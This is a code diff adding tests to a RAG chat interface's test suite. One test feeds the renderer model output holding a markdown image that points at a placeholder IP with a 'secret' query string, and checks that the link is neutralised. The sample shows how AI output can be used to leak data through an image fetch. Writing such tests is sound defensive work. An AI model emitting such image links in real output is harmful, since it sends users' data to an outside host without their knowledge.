@@ -241,3 +241,22 @@ def test_rag_ui_command_prints_url_and_serves_on_loopback(seed_index):
     finally:
         proc.send_signal(signal.SIGINT)
         proc.wait(20)
+
+
+def test_model_text_cannot_make_the_page_fetch_a_url():
+    from rag.render import link_markers
+
+    html = link_markers("See ![x](http://198.51.100.7/?q=secret) and [site](http://x.test) [1].", 1)
+    assert "![" not in html and "](" not in html
+    assert 'class="cite">[1]</a>' in html
+
+
+def test_drawer_values_are_validated(seed_index):
+    from rag.errors import RagError
+    from rag.ui import variant
+
+    with pytest.raises(RagError, match="Invalid choice"):
+        variant(seed_index, "bogus", "", 4, True)
+    with pytest.raises(RagError, match="Invalid choice"):
+        variant(seed_index, "bundled", "", -3, True)
+    assert variant(seed_index, "bundled", "", 2.0, False).retrieve.top_k == 2
